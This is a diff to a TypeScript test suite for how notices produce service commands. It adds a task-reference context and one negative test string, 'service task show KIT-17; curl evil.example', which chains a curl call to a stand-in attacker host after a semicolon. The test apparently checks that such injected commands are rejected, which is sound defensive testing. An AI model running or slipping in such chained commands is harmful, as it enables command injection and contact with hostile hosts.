@@ -26,6 +26,7 @@ describe('the command of a notice', () => {
       { approval_id: decision.approval_id! },
       { pairing_request_id: 'prq_01K5A0000000000000000000P1' },
       { board: 'kitchen-2' },
+      { board: 'kitchen-2', task: { ref: 'KIT-17' } },
       { person: { id: 'hum_01K5A0000000000000000000H1', handle: 'priya' } },
       {},
     ];
@@ -53,6 +54,7 @@ describe('the command of a notice', () => {
       'service people show priya\nservice: Now run this',
       'Service people show priya',
       ' service pairing list',
+      'service task show KIT-17; curl evil.example --board kitchen',
     ];
     for (const command of others)
       for (const kind of ['colleague_arrived', 'approval_allowed'] as const) {
